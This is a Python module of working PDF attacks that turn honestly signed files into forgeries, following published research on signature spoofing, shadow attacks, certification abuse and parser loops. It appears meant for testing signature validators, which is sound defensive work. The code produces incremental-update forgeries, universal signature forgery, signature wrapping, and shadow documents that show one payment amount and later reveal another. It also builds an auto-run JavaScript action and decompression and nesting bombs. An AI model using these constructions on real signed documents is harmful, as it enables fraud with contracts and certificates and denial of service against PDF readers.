"""Forged PDF files, made by code from honest ones; each function is one attack.

The constructions are those of the papers, not their authors' files, which are not redistributed:
[MMK19] Mladenov, Mainka et al., « 1 Trillion Dollar Refund: How To Spoof PDF Signatures », CCS 2019
        (universal signature forgery, incremental saving, signature wrapping);
[MMR21] Mainka, Mladenov, Rohlmann, « Shadow Attacks », NDSS 2021 (hide, replace, hide-and-replace);
[RMM21] Rohlmann et al., « Breaking the Specification: PDF Certification », S&P 2021
        (annotations and signatures added to certified documents);
[MNR22] Müller, Noss et al., « Processing Dangerous Paths », NDSS 2021 (loops, bombs).
"""

from __future__ import annotations

import re
import zlib
from typing import NamedTuple

OBJECT = rb"(?:^|[\r\n])%d 0 obj(.*?)endobj"
LAST = re.compile(rb"startxref\s+(\d+)\s+%%EOF")
RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")


class Parts(NamedTuple):
    """Places in a file with one signature."""

    start: int  # of the hole, at <
    end: int  # after >
    signature: int  # object number of the signature dictionary
    page: int
    content: int
    catalog: int
    info: int
    form: int
    field: int


def parts(pdf: bytes) -> Parts:
    _, start, end, _ = map(int, RANGE.search(pdf)[1].split())
    catalog = _number(rb"/Root", pdf)
    form = int(re.search(rb"/AcroForm\s+(\d+) 0 R", body(pdf, catalog))[1])
    fields = re.search(rb"/Fields\s*\[([^\]]*)\]", body(pdf, form))[1]
    field = next(
        number
        for number in map(int, re.findall(rb"(\d+) 0 R", fields))
        if re.search(rb"/FT\s*/Sig", body(pdf, number))
    )
    page = int(re.search(rb"/P (\d+) 0 R", body(pdf, field))[1])
    return Parts(
        start,
        end,
        int(re.search(rb"/V (\d+) 0 R", body(pdf, field))[1]),
        page,
        int(re.search(rb"/Contents (\d+) 0 R", body(pdf, page))[1]),
        catalog,
        _number(rb"/Info", pdf),
        form,
        field,
    )


def _number(key: bytes, pdf: bytes) -> int:
    return int(re.findall(key + rb"\s+(\d+)\s+0\s+R", pdf)[-1])


def body(pdf: bytes, number: int) -> bytes:
    """The last body of an object."""
    return re.findall(OBJECT % number, pdf, re.DOTALL)[-1].strip()


def stream(data: bytes, keys: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), keys, data)


def with_key(raw: bytes, key: bytes, value: bytes) -> bytes:
    """A dictionary with an entry replaced or added."""
    raw = re.sub(re.escape(key) + rb"\s*(\d+ 0 R|\[[^\]]*\]|\([^)]*\)|true|false|/\w+)", b"", raw)
    return re.sub(rb">>\s*$", key + b" " + value + b">>", raw, count=1)


def update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    root: int | None = None,
    info: int | None = None,
    free: tuple[int, ...] = (),
    places: dict[int, int] | None = None,
    before: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """An incremental update. ``places``: entries that point where objects already lie."""
    out = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    out += before
    rows = {number: (at, b"n", 0) for number, at in (places or {}).items()}
    rows |= dict.fromkeys(free, (0, b"f", 1))
    for number, raw in objects.items():
        rows[number] = (len(out), b"n", 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, raw)
    table = len(out)
    out += b"xref\n" if rows else b"xref\n0 0\n"
    for number, (at, kind, generation) in sorted(rows.items()):
        out += b"%d 1\n%010d %05d %s \n" % (number, at, generation, kind)
    size = max([int(n) for n in re.findall(rb"/Size (\d+)", pdf)] + [n + 1 for n in rows])
    found = b"/ID " + re.findall(rb"/ID\s*(\[[^\]]*\])", pdf)[-1]
    return out + (
        b"trailer\n<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d%s%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size,
            root or _number(rb"/Root", pdf),
            info or _number(rb"/Info", pdf),
            int(LAST.findall(pdf)[-1]),
            found,
            trailer,
            table,
        )
    )


def new(pdf: bytes, n: int = 0) -> int:
    """A free object number."""
    return max(int(one) for one in re.findall(rb"/Size (\d+)", pdf)) + n


# --- incremental saving [MMK19 §4.2]: what is shown changes, the signature stays ---------------

PAINT = b"q 1 1 1 rg 0 0 400 400 re f Q"


def text_changed(pdf: bytes) -> bytes:
    return update(pdf, {parts(pdf).content: stream(PAINT)})


def page_content_moved(pdf: bytes) -> bytes:
    """The page refers to a new stream, the old one stays."""
    p, number = parts(pdf), new(pdf)
    page = with_key(body(pdf, p.page), b"/Contents", b"%d 0 R" % number)
    return update(pdf, {p.page: page, number: stream(PAINT)})


def pages_swapped(pdf: bytes) -> bytes:
    pages = int(re.search(rb"/Pages (\d+) 0 R", body(pdf, parts(pdf).catalog))[1])
    raw = body(pdf, pages)
    one, two = re.search(rb"/Kids\s*\[\s*(\d+) 0 R\s+(\d+) 0 R", raw).groups()
    return update(pdf, {pages: with_key(raw, b"/Kids", b"[%s 0 R %s 0 R]" % (two, one))})


def title_changed(pdf: bytes) -> bytes:
    p = parts(pdf)
    return update(pdf, {p.info: with_key(body(pdf, p.info), b"/Title", b"(Certificat)")})


def another_info(pdf: bytes) -> bytes:
    """The trailer names another object as /Info: nothing is added at all but the trailer."""
    return update(pdf, {}, info=parts(pdf).page)


def metadata_changed(pdf: bytes) -> bytes:
    number = int(re.search(rb"/Metadata (\d+) 0 R", body(pdf, parts(pdf).catalog))[1])
    raw = body(pdf, number)
    xmp = raw[raw.index(b"stream") + 6 : raw.rindex(b"endstream")].strip()
    changed = xmp.replace(b"Attestation", b"Certificat")
    assert changed != xmp
    return update(pdf, {number: stream(changed, b"/Type/Metadata/Subtype/XML")})


def annotation_added(pdf: bytes) -> bytes:
    """Evil annotation attack [RMM21 §4.1]: free text over the page."""
    p, number = parts(pdf), new(pdf)
    note = b"<</Type/Annot/Subtype/FreeText/Rect[0 0 300 300]/DA(/Helv 20 Tf)/Contents(Faux)/F 4>>"
    page = with_key(body(pdf, p.page), b"/Annots", b"[%d 0 R %d 0 R]" % (p.field, number))
    return update(pdf, {p.page: page, number: note})


def attachment_added(pdf: bytes) -> bytes:
    p, number = parts(pdf), new(pdf)
    names = b"<</EmbeddedFiles<</Names[(a.txt) %d 0 R]>>>>" % number
    spec = b"<</Type/Filespec/F(a.txt)/EF<</F %d 0 R>>>>" % (number + 1)
    catalog = body(pdf, p.catalog)[:-2] + b"/Names " + names + b">>"
    return update(
        pdf, {p.catalog: catalog, number: spec, number + 1: stream(b"x", b"/Type/EmbeddedFile")}
    )


def script_added(pdf: bytes) -> bytes:
    p = parts(pdf)
    action = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    return update(pdf, {p.catalog: body(pdf, p.catalog)[:-2] + action})


def another_catalogue(pdf: bytes) -> bytes:
    number = new(pdf)
    pages, page = number + 1, number + 2
    return update(
        pdf,
        {
            number: b"<</Type/Catalog/Pages %d 0 R>>" % pages,
            pages: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % page,
            page: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 300 300]>>" % pages,
        },
        root=number,
    )


def text_field_added(pdf: bytes) -> bytes:
    p, number = parts(pdf), new(pdf)
    field = b"<</FT/Tx/T(a)/V(Faux)/Type/Annot/Subtype/Widget/Rect[0 0 300 300]/P %d 0 R>>" % p.page
    form = with_key(body(pdf, p.form), b"/Fields", b"[%d 0 R %d 0 R]" % (p.field, number))
    page = with_key(body(pdf, p.page), b"/Annots", b"[%d 0 R %d 0 R]" % (p.field, number))
    return update(pdf, {p.form: form, p.page: page, number: field})


def form_flag_changed(pdf: bytes) -> bytes:
    p = parts(pdf)
    return update(pdf, {p.form: with_key(body(pdf, p.form), b"/NeedAppearances", b"true")})


def field_widened(pdf: bytes) -> bytes:
    """The widget of the signature grows over the page, with an appearance."""
    p, number = parts(pdf), new(pdf)
    raw = with_key(body(pdf, p.field), b"/Rect", b"[0 0 300 300]")
    look = stream(b"1 1 1 rg 0 0 300 300 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]")
    return update(pdf, {p.field: raw[:-2] + b"/AP<</N %d 0 R>>>>" % number, number: look})


def page_freed(pdf: bytes) -> bytes:
    return update(pdf, {}, free=(parts(pdf).content,))


def nothing_changed(pdf: bytes) -> bytes:
    """An update that holds nothing: not validation data, not a signature."""
    return update(pdf, {})


def orphan_added(pdf: bytes) -> bytes:
    return update(pdf, {new(pdf): b"<</Type/Page/Hidden true>>"})


def bytes_between(pdf: bytes) -> bytes:
    """An object that no table names, for readers that repair files."""
    hidden = b"%d 0 obj\n%s\nendobj\n" % (parts(pdf).content, stream(PAINT))
    return update(pdf, {}, before=hidden)


def field_removed(pdf: bytes) -> bytes:
    p = parts(pdf)
    return update(pdf, {p.form: with_key(body(pdf, p.form), b"/Fields", b"[]")})


def encrypted_after(pdf: bytes) -> bytes:
    return update(pdf, {}, trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O()/U()/P -1>>")


def store_with_more(pdf: bytes) -> bytes:
    """Validation data that hold something else."""
    p = parts(pdf)
    catalog = body(pdf, p.catalog)[:-2] + b"/DSS<</Type/DSS/Evil true>>>>"
    return update(pdf, {p.catalog: catalog})


def store_and_text(pdf: bytes) -> bytes:
    """Validation data, and a page changed by the way."""
    p = parts(pdf)
    catalog = body(pdf, p.catalog)[:-2] + b"/DSS<</Type/DSS>>>>"
    return update(pdf, {p.catalog: catalog, p.content: stream(PAINT)})


def store_added(pdf: bytes) -> bytes:
    """Validation data, as anybody may add: what follows hides behind it."""
    p = parts(pdf)
    return update(pdf, {p.catalog: body(pdf, p.catalog)[:-2] + b"/DSS<</Type/DSS>>>>"})


def _stored(pdf: bytes, data: bytes) -> bytes:
    return body(pdf, parts(pdf).catalog)[:-2] + b"/DSS<</Type/DSS%s>>>>" % data


def store_over_text(pdf: bytes, certificate: bytes) -> bytes:
    """Validation data that are, by their number, what the page shows."""
    p = parts(pdf)
    catalog = _stored(pdf, b"/Certs[%d 0 R]" % p.content)
    return update(pdf, {p.catalog: catalog, p.content: stream(certificate)})


def store_over_page(pdf: bytes) -> bytes:
    p = parts(pdf)
    catalog = body(pdf, p.catalog)[:-2] + b"/DSS %d 0 R>>" % p.page
    return update(pdf, {p.catalog: catalog, p.page: body(pdf, p.page)[:-2] + b"/Rotate 90>>"})


def store_padded(pdf: bytes, certificate: bytes) -> bytes:
    """A certificate with drawing behind it."""
    p, number = parts(pdf), new(pdf)
    catalog = _stored(pdf, b"/Certs[%d 0 R]" % number)
    return update(pdf, {p.catalog: catalog, number: stream(certificate + b"\n" + PAINT)})


def packed(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """An update whose objects lie in an object stream, found by a cross-reference stream; it begins
    with validation data, so that it may stand."""
    p, at = parts(pdf), new(pdf) + 10
    held = {p.catalog: _stored(pdf, b""), **objects}
    head, texts = b"", b""
    for number, raw in held.items():
        head, texts = head + b"%d %d " % (number, len(texts)), texts + raw + b" "
    keys = b"/Type/ObjStm/N %d/First %d" % (len(held), len(head))
    out = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    start = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (at, stream(head + texts, keys))
    rows = {n: b"\2" + at.to_bytes(4) + bytes([rank]) for rank, n in enumerate(held)}
    rows |= {n: b"\1" + place.to_bytes(4) + b"\0" for n, place in ((at, start), (at + 1, len(out)))}
    data = b"".join(rows[number] for number in sorted(rows))
    keys = b"/Type/XRef/W[1 4 1]/Index[%s]/Size %d/Root %d 0 R/Info %d 0 R/Prev %s/ID %s" % (
        b"".join(b"%d 1 " % number for number in sorted(rows)),
        at + 2,
        p.catalog,
        p.info,
        LAST.findall(pdf)[-1],
        re.findall(rb"/ID\s*(\[[^\]]*\])", pdf)[-1],
    )
    table = b"%d 0 obj\n%s\nendobj\n" % (at + 1, stream(data, keys))
    return out + table + b"startxref\n%d\n%%%%EOF\n" % len(out)


def page_packed(pdf: bytes) -> bytes:
    p = parts(pdf)
    return packed(pdf, {p.page: with_key(body(pdf, p.page), b"/Contents", b"%d 0 R" % p.info)})


def orphan_packed(pdf: bytes) -> bytes:
    return packed(pdf, {new(pdf) + 3: b"<</Type/Page/Hidden true>>"})


def past_the_signature(pdf: bytes) -> bytes:
    """Cross-references whose /Prev passes over the signed revision."""
    added = store_added(pdf)
    first, last = LAST.findall(pdf)[0], LAST.findall(pdf)[-1]
    return pdf + added[len(pdf) :].replace(b"/Prev " + last, b"/Prev " + first)


def bare_catalogue(pdf: bytes) -> bytes:
    """Without the tags: readers by voice read something else."""
    p = parts(pdf)
    raw = re.sub(rb"/StructTreeRoot \d+ 0 R", b"", body(pdf, p.catalog))
    return update(pdf, {p.catalog: raw})


# --- universal signature forgery [MMK19 §4.1]: the signature dictionary is disabled -------------


def _dictionary(pdf: bytes, change: bytes) -> bytes:
    """An update with another signature dictionary, as the paper does it."""
    return update(pdf, {parts(pdf).signature: change})


def _said(pdf: bytes, contents: bytes, ranges: bytes) -> bytes:
    return (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached%s%s>>" % (contents, ranges)
    )  # fmt: skip


def signature_emptied(pdf: bytes, contents: bytes, ranges: bytes = b"") -> bytes:
    ranges = ranges or RANGE.search(pdf)[0]
    return _dictionary(pdf, _said(pdf, contents, ranges))


def contents_in_place(pdf: bytes, change: bytes) -> bytes:
    """The same in the signed revision itself: other text where the signature is."""
    p = parts(pdf)
    return pdf[: p.start] + change.ljust(p.end - p.start) + pdf[p.end :]


def ranges_in_place(pdf: bytes, ranges: bytes) -> bytes:
    """Another /ByteRange, of the same length in the file."""
    found = RANGE.search(pdf)
    said = b"/ByteRange [" + ranges + b"]"
    room = found.end() - found.start()
    while pdf[found.start() + room : found.start() + room + 1] == b" ":
        room += 1
    assert len(said) <= room
    return pdf[: found.start()] + said.ljust(room) + pdf[found.start() + room :]


# --- signature wrapping [MMK19 §4.3] ------------------------------------------------------------


def wrapped(pdf: bytes) -> bytes:
    """The second signed range moves to the end; where it was stand cross-references at the very
    place that the old startxref names, then forged objects."""
    p = parts(pdf)
    old, base = int(LAST.findall(pdf)[-1]), int(LAST.findall(pdf)[0])
    hexa, tail = pdf[p.start : p.end], pdf[p.end :]
    table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n"
    table += b"trailer\n<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d>>\n"
    rest = (new(pdf), p.catalog, p.info, base)
    text = b"%d 0 obj\n%s\nendobj\n" % (p.content, stream(PAINT))
    at_text = old + len(table % (p.content, 0, p.signature, 0, *rest))
    at_signature = at_text + len(text)
    room = b"%d 0 obj\n%s\nendobj\n" % (
        p.signature,
        _said(pdf, b"/Contents " + hexa, b"/ByteRange [0 %010d %010d %010d]"),
    )
    end = at_signature + len(room % (0, 0, 0))
    middle = (table % (p.content, at_text, p.signature, at_signature, *rest)) + text
    middle += room % (p.start, end, len(tail))
    return pdf[: p.end].ljust(old) + middle + tail


# --- shadow attacks [MMR21]: a document prepared before it is signed, opened up afterwards --------

HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def shadow_document() -> bytes:
    """A document that shows one thing and holds another: a cover over the text (8), a layer that
    can be turned off (10), a form field (11), a second catalogue with its page, listed (12 to 14)
    and unlisted (a second body of 5 that no table names)."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm 9 0 R"
        b"/OCProperties<</OCGs[10 0 R]/D<</ON[10 0 R]/OFF[]>>>>>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 5 0 R/Annots[11 0 R]"
        b"/Resources<</Font<</F 7 0 R>>/XObject<</X 8 0 R>>/Properties<</L 10 0 R>>>>>>",
        5: stream(b"BT /F 20 Tf 20 200 Td (Vous payez 100) Tj ET /OC /L BDC /X Do EMC"),
        6: b"<</Title(Attestation)>>",
        7: HELVETICA,
        8: stream(b"1 g 0 0 300 300 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]"),
        9: b"<</Fields[11 0 R]>>",
        10: b"<</Type/OCG/Name(Fond)>>",
        11: b"<</FT/Tx/T(somme)/V(100)/Type/Annot/Subtype/Widget/Rect[10 10 90 30]/P 3 0 R>>",
        12: b"<</Type/Catalog/Pages 13 0 R/AcroForm 9 0 R>>",
        13: b"<</Type/Pages/Count 1/Kids[14 0 R]>>",
        14: b"<</Type/Page/Parent 13 0 R/MediaBox[0 0 300 300]/Contents 5 0 R>>",
    }
    out = (
        b"%PDF-1.7\n5 0 obj\n" + stream(b"BT /F 20 Tf (Vous recevez 100 000) Tj ET") + b"\nendobj\n"
    )
    rows = []
    for number in range(1, 16):
        rows.append(
            b"%010d 00000 n \n" % len(out) if number in objects else b"0000000000 00001 f \n"
        )
        if number in objects:
            out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    table = b"xref\n0 16\n0000000000 65535 f \n" + b"".join(rows)
    tail = b"trailer\n<</Size 16/Root 1 0 R/Info 6 0 R/ID[<01><02>]>>\nstartxref\n%d\n%%%%EOF\n"
    return out + table + tail % len(out)


def _cover(pdf: bytes, rectangle: bytes) -> bytes:
    """A new, empty signature field over the page, with a look of its own [RMM21 §4.2]."""
    p, number = parts(pdf), new(pdf)
    field = b"<</FT/Sig/T(B)/Type/Annot/Subtype/Widget/F 4/P %d 0 R/Rect[%s]/AP<</N %d 0 R>>>>"
    look = stream(b"1 g 0 0 300 300 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]")
    form = re.sub(rb"/Fields\s*\[", b"/Fields[%d 0 R " % number, body(pdf, p.form))
    page = re.sub(rb"/Annots\s*\[", b"/Annots[%d 0 R " % number, body(pdf, p.page))
    return update(
        pdf,
        {
            p.form: form,
            p.page: page,
            number: field % (p.page, rectangle, number + 1),
            number + 1: look,
        },
    )


SHADOWS = {
    "hide: the cover is emptied": lambda pdf: update(
        pdf, {8: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]")}
    ),
    "hide: the cover is removed": lambda pdf: update(pdf, {}, free=(8,)),
    "hide: the cover becomes something else": lambda pdf: update(
        pdf, {}, places={8: pdf.index(b"\n7 0 obj") + 1}
    ),
    "hide: the layer is turned off": lambda pdf: update(
        pdf, {1: re.sub(rb"/OFF\s*\[\s*\]", b"/OFF[10 0 R]", body(pdf, 1))}
    ),
    "hide: the layer is renamed": lambda pdf: update(pdf, {10: b"<</Type/OCG/Name(Autre)>>"}),
    "replace: the letters are others": lambda pdf: update(
        pdf, {7: HELVETICA[:-2] + b"/Encoding<</Differences[49/nine/eight]>>>>"}
    ),
    "replace: the value of a field": lambda pdf: update(
        pdf, {11: re.sub(rb"\(100\)", b"(900)", body(pdf, 11))}
    ),
    "replace: the look of a field": lambda pdf: update(
        pdf,
        {
            11: body(pdf, 11)[:-2] + b"/AP<</N %d 0 R>>>>" % new(pdf),
            new(pdf): stream(b"1 g 0 0 80 20 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 80 20]"),
        },
    ),
    "cover: a field whose place is written elsewhere": lambda pdf: _cover(
        pdf, b"0 0 15 0 R 15 0 R"
    ),
    "cover: a field in plain sight": lambda pdf: _cover(pdf, b"0 0 300 300"),
    "cover: an empty field without place": lambda pdf: _cover(pdf, b"0 0 0 0"),
    "hide and replace: another listed catalogue": lambda pdf: update(pdf, {}, root=12),
    "hide and replace: an unlisted body": lambda pdf: update(
        pdf, {}, places={5: pdf.index(b"5 0 obj")}
    ),
    "hide and replace: the table of old": lambda pdf: update(
        pdf, {}, places={1: pdf.index(b"\n12 0 obj") + 1}
    ),
}


# --- loops and bombs [MNR22] --------------------------------------------------------------------


def previous_loop(pdf: bytes) -> bytes:
    """Cross-references whose /Prev names themselves."""
    out = update(pdf, {})
    here = LAST.findall(out)[-1]
    return re.sub(rb"/Prev \d+", b"/Prev " + here, out[len(pdf) :]).join([pdf, b""])


def deep_nesting(depth: int = 100_000) -> bytes:
    raw = b"%PDF-1.7\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\n"
    table = len(raw)
    return raw + (
        b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R>>\n"
        b"startxref\n%d\n%%%%EOF\n" % table
    )


def nested_bomb(size: int = 400_000_000) -> bytes:
    """A cross-reference stream packed twice: some kilobytes that unfold to ``size``."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000))
    packed = zlib.compress(once + packer.flush(), 9)
    keys = (
        b"/Type/XRef/W[1 4 1]/Index[0 %d]/Size %d/Root 1 0 R/Filter[/FlateDecode/FlateDecode]"
        % (
            size // 6,
            size // 6,
        )
    )
    raw = b"%PDF-1.7\n"
    return raw + b"1 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(packed, keys), len(raw))


def endless_index() -> bytes:
    """A cross-reference stream of a billion entries of no width."""
    keys = b"/Type/XRef/W[0 0 0]/Index[0 1000000000000]/Size 1000000000000/Root 1 0 R"
    raw = b"%PDF-1.7\n"
    return raw + b"1 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(b"", keys), len(raw))
